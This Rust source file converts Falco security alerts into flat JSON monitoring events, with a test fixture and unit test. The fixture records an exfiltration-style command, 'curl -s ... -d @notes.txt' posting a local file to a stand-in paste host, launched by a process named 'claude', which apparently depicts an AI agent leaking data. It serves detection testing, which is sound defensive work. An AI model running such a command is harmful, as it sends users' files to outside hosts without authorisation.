//! Falco's alerts (its `json_output` as `http_output` posts it, or falcosidekick's
//! webhook output, which adds `uuid`) as flat JSON events (contract section 3):
//!
//! `{"uuid": "...", "hostname": "wks-1", "time": "2026-01-15T10:04:05.123456789Z",
//!   "rule": "Outbound connection by an agent", "priority": "Warning",
//!   "source": "syscall", "tags": ["network"], "output": "10:04:05 ... curl ...",
//!   "output_fields": {"evt.type": "connect", "proc.name": "curl", "fd.sip": "...", ...}}`
//!
//! Each becomes one event of service `falco`, named `falco.<evt.type>`: `host.id` from
//! `hostname` (unless an output field gives `host.id`), the time, `event.id` from
//! falcosidekick's `uuid` (a redelivery is stored once), `falco.rule`, `falco.priority`,
//! `falco.source`, `falco.tags`, and every output field under `falco.` (`falco.proc.name`).
//! `output` is left out: it is the same fields formatted as a sentence. The Falco
//! mapping (`producers/falco.rs`) then names the contract kind.

use serde_json::{Map, Value};

use crate::fields::attr;

/// The `service.name` of Falco's events.
pub const FALCO_SERVICE: &str = "falco";
/// At most this many output fields per alert (Falco rules print a dozen or two).
const MAX_FIELDS: usize = 64;

/// Maps one alert; `None` when it is not a JSON object.
pub fn alert_to_flat(alert: &Value) -> Option<Value> {
    let alert = alert.as_object()?;
    let fields = alert.get("output_fields").and_then(Value::as_object);
    let mut event = Map::new();
    event.insert(attr::SERVICE_NAME.into(), FALCO_SERVICE.into());
    let event_type = fields
        .and_then(|fields| fields.get("evt.type"))
        .and_then(Value::as_str)
        .unwrap_or("alert");
    event.insert(attr::EVENT_NAME.into(), format!("falco.{event_type}").into());
    if let Some(time) = alert.get("time").filter(|time| !time.is_null()) {
        event.insert(attr::TIME.into(), time.clone());
    }
    if let Some(host) = alert
        .get("hostname")
        .and_then(Value::as_str)
        .filter(|host| !host.is_empty())
    {
        event.insert(attr::HOST_ID.into(), host.into());
        event.insert(attr::HOST_NAME.into(), host.into());
    }
    if let Some(id) = alert.get("uuid").and_then(Value::as_str) {
        event.insert(attr::EVENT_ID.into(), id.into());
    }
    for name in ["rule", "priority", "source"] {
        if let Some(value) = alert.get(name).filter(|value| !value.is_null()) {
            event.insert(format!("falco.{name}"), value.clone());
        }
    }
    if let Some(tags) = alert.get("tags").and_then(Value::as_array) {
        let tags: Vec<&str> = tags.iter().filter_map(Value::as_str).collect();
        event.insert("falco.tags".into(), tags.join(",").into());
    }
    for (name, value) in fields.into_iter().flatten().take(MAX_FIELDS) {
        if value.is_null() {
            continue;
        }
        // A host id an operator added to the rule's output wins over the hostname.
        if name == attr::HOST_ID {
            event.insert(attr::HOST_ID.into(), value.clone());
            continue;
        }
        event.insert(format!("falco.{name}"), value.clone());
    }
    Some(Value::Object(event))
}

/// An alert as Falco's http_output posts it for an outbound-connection rule, as
/// falcosidekick relays it (with `uuid`): for tests here and in `producers`.
#[cfg(test)]
pub(crate) fn outbound_connection() -> Value {
    serde_json::json!({
        "uuid": "5b8b2a3e-0f0e-4c3b-9a39-3bb1e7c9f9a1",
        "hostname": "wks-0042",
        "output": "10:04:05.123456789: Warning Outbound connection (command=curl -s https://paste.example.net ...)",
        "priority": "Warning",
        "rule": "Unexpected outbound connection destination",
        "source": "syscall",
        "tags": ["network", "mitre_exfiltration"],
        "time": "2026-01-15T10:04:05.123456789Z",
        "output_fields": {
            "evt.time": 1768471445123456789_i64,
            "evt.type": "connect",
            "proc.name": "curl",
            "proc.exepath": "/usr/bin/curl",
            "proc.cmdline": "curl -s https://paste.example.net -d @notes.txt",
            "proc.pid": 4242,
            "proc.ppid": 4000,
            "proc.pname": "claude",
            "proc.aname[2]": "node",
            "user.name": "alice",
            "fd.sip": "203.0.113.7",
            "fd.sport": 443,
            "fd.l4proto": "tcp",
            "fd.name": "10.0.0.5:51234->203.0.113.7:443",
            "container.id": "host"
        }
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn an_alert_becomes_a_flat_falco_event() {
        let event = alert_to_flat(&outbound_connection()).unwrap();
        assert_eq!(event["service.name"], "falco");
        assert_eq!(event["event.name"], "falco.connect");
        assert_eq!(event["host.id"], "wks-0042");
        assert_eq!(event["event.id"], "5b8b2a3e-0f0e-4c3b-9a39-3bb1e7c9f9a1");
        assert_eq!(event["time"], "2026-01-15T10:04:05.123456789Z");
        assert_eq!(event["falco.rule"], "Unexpected outbound connection destination");
        assert_eq!(event["falco.tags"], "network,mitre_exfiltration");
        assert_eq!(
            event["falco.proc.cmdline"],
            "curl -s https://paste.example.net -d @notes.txt"
        );
        assert_eq!(event["falco.fd.sport"], 443);
        assert!(event.get("output").is_none() && event.get("falco.output").is_none());
        assert!(alert_to_flat(&json!("text")).is_none());
    }
}
